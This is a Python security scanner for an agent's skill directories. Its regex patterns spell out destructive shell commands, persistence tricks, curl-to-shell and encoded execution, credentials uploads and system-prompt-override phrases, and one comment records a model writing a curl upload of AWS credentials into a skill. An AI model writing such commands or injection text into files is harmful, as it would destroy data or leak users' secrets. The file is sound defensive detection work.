"""Security scan of a skill directory, run after every write by the agent, a review or the curator.

It reuses the prompt-injection and exfiltration patterns of `core/threats/` and adds what is
dangerous in a playbook the agent will later follow: destructive commands, persistence,
obfuscated or piped-from-the-network execution, miners, privilege escalation, path traversal;
plus structural checks (file count, size, binaries, symlinks). The verdict decides the policy
in library.py: a dangerous write by a model is rolled back, a cautious one is kept and flagged.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from hermes_tui.core import threats
from hermes_tui.core.skills.exfil import exfiltration
from hermes_tui.core.storage import is_temp_file

Verdict = Literal["safe", "caution", "dangerous"]
MAX_FILES = 100
MAX_TOTAL_BYTES = 10 * 1024 * 1024
MAX_FILE_BYTES = 1024 * 1024  # the support-file cap of the library
IGNORE_FILES = (".skillignore", ".clawhubignore")  # Hermes' names; ClawHub's is read too
# A line that writes a secrets file from a here-document puts the user's own keys in; it reads
# nothing. Exfiltration findings on such a line are dropped (a pipe onward still counts).
_WRITE_FROM_HEREDOC = re.compile(
    r"^\s*(?:cat|tee)\s*(?:>>?|-a)?\s*\S+\s*<<-?\s*['\"]?\w+['\"]?\s*$"
)


@dataclass(frozen=True)
class GuardFinding:
    """One pattern the skill scan found, where, and how bad it is."""

    file: str
    line: int | None
    id: str
    category: str
    severity: threats.Severity
    description: str


@dataclass(frozen=True)
class GuardReport:
    """The skill scan's verdict and the findings behind it."""

    verdict: Verdict
    findings: tuple[GuardFinding, ...]

    def summary(self) -> str:
        if not self.findings:
            return "no findings"
        return "; ".join(
            f"{f.id} ({f.category}, {f.severity}) in {f.file}{f':{f.line}' if f.line else ''}"
            for f in self.findings
        )


def _p(id_: str, category: str, severity: threats.Severity, pattern: str, description: str):
    return threats.ThreatPattern(id_, category, severity, pattern, description)


# A user's credentials file (private keys, not `.pub`), as a shell line names it.
_CREDENTIALS = (
    r"(?:~|\$\{?HOME\}?)/\.(?:aws/|ssh/(?!\S*\.pub\b)|gnupg/|kube/config|docker/config\.json"
    r"|netrc\b|git-credentials\b|pypirc\b|npmrc\b|config/gh/|config/gcloud/|azure/)"
)

# What a skill's files may not do beyond what threats.scan finds in any text. A skill that asks
# to turn the product's own safety settings off (issue 23) is threats' disable_safety_settings
# row, the one source for the memory scanner and the guard alike.
SKILL_PATTERNS: tuple[threats.ThreatPattern, ...] = (
    _p(
        "rm_rf_root",
        "destructive",
        "critical",
        r"\brm\s+(?:-[a-z]*\s+)*-[a-z]*r[a-z]*\s+(?:-[a-z]+\s+)*(?:/|/\*|~/?|\$home/?|\"?\$\{?home\}?\"?)(?:\s|$|;|&|`|'|\")",
        "recursive delete of / or the home directory",
    ),
    _p("mkfs", "destructive", "critical", r"\bmkfs(?:\.\w+)?\s", "formats a filesystem"),
    _p(
        "dd_to_device",
        "destructive",
        "critical",
        r"\bdd\s+[^\n]*\bof=/dev/(?:sd|hd|nvme|vd|disk|mmcblk)",
        "writes raw bytes over a disk",
    ),
    _p(
        "fork_bomb",
        "destructive",
        "critical",
        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        "a fork bomb",
    ),
    _p(
        "chmod_world_writable_root",
        "destructive",
        "high",
        r"\bchmod\s+(?:-R\s+)?0?777\s+/(?:\s|$)",
        "makes the whole filesystem world-writable",
    ),
    _p(
        "crontab_edit",
        "persistence",
        "medium",
        r"\bcrontab\s+(?:-[el]\b|-\s|[^\n|]*<<)|\|\s*crontab\s+-|/etc/cron\.|/var/spool/cron",
        "installs a cron job",
    ),
    _p(
        "shell_rc_edit",
        "persistence",
        "medium",
        r"(?:>>?|tee\s+-a|sed\s+-i[^\n]*)\s*(?:~|\$home|\$\{home\})/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|config/fish/config\.fish)",
        "edits a shell start-up file",
    ),
    _p(
        "systemd_persistence",
        "persistence",
        "medium",
        r"\bsystemctl\s+(?:--user\s+)?enable\b|/etc/systemd/system/",
        "registers a service that survives reboots",
    ),
    _p(
        "base64_to_shell",
        "obfuscation",
        "high",
        r"base64\s+(?:-d|--decode|-D)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b",
        "decodes hidden code and runs it",
    ),
    _p(
        "eval_download",
        "obfuscation",
        "high",
        r"\beval\s+[\"']?\$\((?:curl|wget)|\bexec\s*\(\s*(?:requests\.get|urllib\.request\.urlopen)",
        "evaluates code downloaded at run time",
    ),
    _p(
        "python_exec_encoded",
        "obfuscation",
        "high",
        r"\bexec\s*\(\s*(?:base64\.b64decode|codecs\.decode|zlib\.decompress)",
        "runs encoded Python",
    ),
    _p(
        "curl_pipe_shell",
        "remote_execution",
        "high",
        r"\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\biwr\b[^\n|]*\|\s*iex\b"
        r"|\binvoke-webrequest\b[^\n|]*\|\s*invoke-expression",
        "pipes a download straight into a shell",
    ),
    _p(
        "crypto_miner",
        "crypto_mining",
        "critical",
        r"\b(?:xmrig|minerd|cpuminer|cgminer|ethminer|nicehash|coinhive|cryptonight)\b|stratum\+tcp://",
        "cryptocurrency miner",
    ),
    _p(
        "sudoers_edit",
        "privilege_escalation",
        "high",
        r"/etc/sudoers|\bnopasswd\b|\bvisudo\b",
        "changes sudo rights",
    ),
    _p(
        "setuid",
        "privilege_escalation",
        "high",
        r"\bchmod\s+(?:[ugo]*\+s|[0-7]?[4-7][0-7]{3})\b",
        "sets the setuid/setgid bit",
    ),
    _p(
        "sudo_su",
        "privilege_escalation",
        "medium",
        r"\bsudo\s+(?:su|-i|-s)\b",
        "opens a root shell",
    ),
    _p(
        "path_traversal",
        "path_traversal",
        "medium",
        r"(?:\.\./){2,}",
        "walks out of the working tree",
    ),
    _p(
        "sys_prompt_override",
        "injection",
        "high",
        r"\bsystem\s+prompt\s+(?:temporary\s+)?override\b"
        r"|\boverrides?\s+(?:the\s+|your\s+)?system\s+prompt\b",
        "claims to override the system prompt",
    ),
    _p(
        "fake_policy",
        "injection",
        "high",
        r"\bnew\s+temporary\s+polic(?:y|ies)\b"
        r"|\bnew\s+polic(?:y|ies)\s+for\s+(?:the\s+|this\s+)?(?:agent|assistant|ai|model)\b",
        "announces a new policy for the agent",
    ),
    _p(
        "python_os_environ",
        "exfiltration",
        "medium",
        r"^(?![ \t]*#).*?(?:\b(?:dict|list|str|repr)\(\s*os\.environ\s*\)"
        r"|\bos\.environ\.copy\(\)|\bjson\.dumps\(\s*(?:dict\(\s*)?os\.environ\b)",
        "copies the whole environment, secrets included",
    ),
    # A credentials file sent off the machine: an upload by curl or wget, a pipe or redirect
    # into a raw socket, an scp to a host (ATTACK.md A3-9: a model wrote `curl -s -T
    # ~/.aws/credentials https://…` into a skill's script). Using a key (`ssh -i ~/.ssh/key`,
    # `rsync -e "ssh -i …"`) or copying a public one is not sending it.
    _p(
        "credentials_upload",
        "exfiltration",
        "high",
        r"\bcurl\b[^\n]*?(?:-T|--upload-file|--data(?:-binary|-raw|-urlencode)?|-d|-F\s*\S*?=)"
        rf"\s*[\"']?@?[\"']?{_CREDENTIALS}"
        rf"|\bwget\b[^\n]*?--post-file[= ][\"']?{_CREDENTIALS}"
        rf"|{_CREDENTIALS}[^\n|]*\|\s*(?:nc|ncat|netcat|socat|curl|wget)\b"
        rf"|\b(?:nc|ncat|netcat|socat)\b[^\n]*<\s*[\"']?{_CREDENTIALS}"
        rf"|\bscp\b[^\n]*?{_CREDENTIALS}\S*\s+\S+:",
        "sends a credentials file off the machine",
    ),
    _p(
        "system_credentials",
        "path_traversal",
        "high",
        r"/etc/(?:shadow|gshadow)\b",
        "reads the system password hashes",
    ),
)

_RANK = threats.SEVERITY_RANK


def scan_text(text: str, file: str) -> list[GuardFinding]:
    findings = [
        GuardFinding(file, _line_of(text, f.excerpt), f.id, f.category, f.severity, f.description)
        for f in threats.scan(text)
    ]
    lines = text.splitlines()
    findings = [
        f
        for f in findings
        if not (
            f.category == "exfiltration"
            and f.line is not None
            and f.line <= len(lines)
            and _WRITE_FROM_HEREDOC.match(lines[f.line - 1])
        )
    ]
    for pattern in SKILL_PATTERNS:
        match = pattern.regex.search(text)
        if match:
            line = text.count("\n", 0, match.start()) + 1
            findings.append(
                GuardFinding(
                    file, line, pattern.id, pattern.category, pattern.severity, pattern.description
                )
            )
    # Reading credentials (or the environment) and sending, in any spelling (exfil.py).
    findings.extend(
        GuardFinding(file, line, id_, "exfiltration", "high", description)
        for line, id_, description in exfiltration(text, file)
    )
    return findings


def _line_of(text: str, excerpt: str) -> int | None:
    probe = excerpt.strip("…")[:20]
    index = text.find(probe) if probe else -1
    return text.count("\n", 0, index) + 1 if index >= 0 else None


def skill_ignore(directory: Path) -> Callable[[str], bool]:
    """Hermes' `.skillignore`: gitignore-style lines (`docs/`, `*.jsonl`, `notes.md`) naming files
    that are not part of the skill. SKILL.md is never ignored; the ignore files always are."""
    patterns: list[str] = []
    for name in IGNORE_FILES:
        try:
            text = (directory / name).read_text(encoding="utf-8", errors="replace")
        except OSError:
            continue
        patterns += [line.strip() for line in text.splitlines()]
    patterns = [p for p in patterns if p and not p.startswith("#")]

    def ignored(relative: str) -> bool:
        if relative == "SKILL.md":
            return False
        if relative in IGNORE_FILES:
            return True
        for pattern in patterns:
            if pattern.endswith("/"):
                if relative.startswith(pattern) or f"/{pattern}" in f"/{relative}":
                    return True
            elif fnmatch.fnmatch(relative, pattern) or fnmatch.fnmatch(
                relative.rsplit("/", 1)[-1], pattern
            ):
                return True
        return False

    return ignored


def scan_directory(directory: Path) -> GuardReport:
    """Every file's content is scanned; `.skillignore` only takes files out of the structure
    limits (count, size), so it can never hide a payload from the scan."""
    findings: list[GuardFinding] = []
    # Temp files are other writes in flight (or leftovers of killed ones), not the skill.
    files = [
        p
        for p in sorted(directory.rglob("*"))
        if (p.is_file() or p.is_symlink()) and not is_temp_file(p.name)
    ]
    ignored = skill_ignore(directory)
    counted = {p for p in files if not ignored(p.relative_to(directory).as_posix())}
    total = 0
    root = directory.resolve()
    for path in files:
        relative = str(path.relative_to(directory))
        if path.is_symlink():
            target = path.resolve()
            inside = target == root or root in target.parents
            findings.append(
                GuardFinding(
                    relative,
                    None,
                    "symlink",
                    "structure",
                    "medium" if inside else "critical",
                    f"symbolic link to {'a file inside the skill' if inside else target}",
                )
            )
            continue
        try:
            data = path.read_bytes()
        except FileNotFoundError:
            continue  # removed while we scanned: nothing of it is left to judge
        if path in counted:
            total += len(data)
        if len(data) > MAX_FILE_BYTES and path in counted:
            findings.append(
                GuardFinding(
                    relative,
                    None,
                    "oversized_file",
                    "structure",
                    "medium",
                    f"{len(data):,} bytes (over {MAX_FILE_BYTES:,} for one file)",
                )
            )
        if b"\x00" in data[:8192]:
            findings.append(
                GuardFinding(relative, None, "binary_file", "structure", "medium", "binary file")
            )
            continue
        text = data.decode("utf-8", errors="replace")
        findings.extend(scan_text(text, relative))
    if len(counted) > MAX_FILES:
        findings.append(
            GuardFinding(
                ".",
                None,
                "too_many_files",
                "structure",
                "medium",
                f"{len(counted)} files (over {MAX_FILES})",
            )
        )
    if total > MAX_TOTAL_BYTES:
        findings.append(
            GuardFinding(
                ".",
                None,
                "too_large",
                "structure",
                "medium",
                f"{total:,} bytes (over {MAX_TOTAL_BYTES:,})",
            )
        )
    return GuardReport(_verdict(findings), tuple(findings))


def _verdict(findings: list[GuardFinding]) -> Verdict:
    worst = max((_RANK[f.severity] for f in findings), default=-1)
    if worst >= _RANK["high"]:
        return "dangerous"
    if worst >= _RANK["low"]:
        return "caution"
    return "safe"
